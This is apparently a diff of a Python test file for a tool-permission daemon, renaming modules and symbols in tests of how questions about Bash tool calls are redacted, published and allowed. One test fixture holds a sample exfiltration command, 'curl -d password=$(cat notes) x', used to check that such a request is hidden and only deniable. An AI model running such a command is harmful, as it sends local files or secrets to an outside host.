@@ -9,9 +9,9 @@ import pytest
 
 from fairlead.clients import Choice
 from fairlead.daemon.answers._questions import Question
-from fairlead.daemon.team.answers._parcels import decode_answer
-from fairlead.daemon.team.answers._questions import HIDDEN, TOO_LONG, read_questions, told_question
-from fairlead.daemon.team.answers._told import NOT_TOLD, ToldQuestions
+from fairlead.daemon.team.answers._packets import decode_answer
+from fairlead.daemon.team.answers._published import NOT_PUBLISHED, PublishedQuestions
+from fairlead.daemon.team.answers._questions import HIDDEN, TOO_LONG, read_questions, redacted_question
 
 QUESTION = Question(id="k7qd3", event="e1", session="s1", tool="Bash", text="make", asked=5.25, expires=9.5)
 
@@ -21,7 +21,7 @@ def asked(**fields: Any) -> Question:
 
 
 def test_a_question_is_told_as_it_is_and_read_with_its_host() -> None:
-    (read,) = read_questions(ToldQuestions().prepare([QUESTION], is_on=True), "alpha")
+    (read,) = read_questions(PublishedQuestions().prepare([QUESTION], is_on=True), "alpha")
     assert read == asked(event="", host="alpha")
 
 
@@ -34,19 +34,19 @@ def test_a_question_is_told_as_it_is_and_read_with_its_host() -> None:
     ],
 )
 def test_who_does_not_see_all_of_it_can_only_deny(question: Question, why: str) -> None:
-    told = told_question(question)
+    told = redacted_question(question)
     assert (told.only_deny, told.id, told.asked) == (why, question.id, question.asked)
     assert len(msgspec.json.encode(told)) < 16 * 1024
 
 
 def test_what_can_be_allowed_is_decided_by_all_that_was_published() -> None:
-    told = ToldQuestions()
-    assert told.why_not_allowed(QUESTION) == NOT_TOLD
+    told = PublishedQuestions()
+    assert told.why_not_allowed(QUESTION) == NOT_PUBLISHED
     told.prepare([QUESTION], is_on=True)
-    assert told.why_not_allowed(QUESTION) == NOT_TOLD
+    assert told.why_not_allowed(QUESTION) == NOT_PUBLISHED
     told.note_published()
     assert told.why_not_allowed(QUESTION) == ""
-    assert told.why_not_allowed(asked(asked=6.5)) == NOT_TOLD
+    assert told.why_not_allowed(asked(asked=6.5)) == NOT_PUBLISHED
 
     hidden = asked(text="curl -d password=$(cat notes) x")
     told.prepare([hidden], is_on=True)
@@ -55,14 +55,14 @@ def test_what_can_be_allowed_is_decided_by_all_that_was_published() -> None:
     assert read_questions([row], "alpha")[0].only_deny == HIDDEN
     told.prepare([QUESTION], is_on=False)
     told.note_published()
-    assert told.why_not_allowed(QUESTION) == NOT_TOLD
+    assert told.why_not_allowed(QUESTION) == NOT_PUBLISHED
     told.prepare([QUESTION], is_on=True)
     told.note_published()
     assert told.why_not_allowed(QUESTION) == HIDDEN, "while it is open"
     told.prepare([], is_on=True)
     told.prepare([asked(id=f"q{number}") for number in range(51)], is_on=True)
     told.note_published()
-    assert (told.why_not_allowed(asked(id="q49")), told.why_not_allowed(asked(id="q50"))) == ("", NOT_TOLD)
+    assert (told.why_not_allowed(asked(id="q49")), told.why_not_allowed(asked(id="q50"))) == ("", NOT_PUBLISHED)
 
 
 def test_what_another_host_sends_is_bounded() -> None:
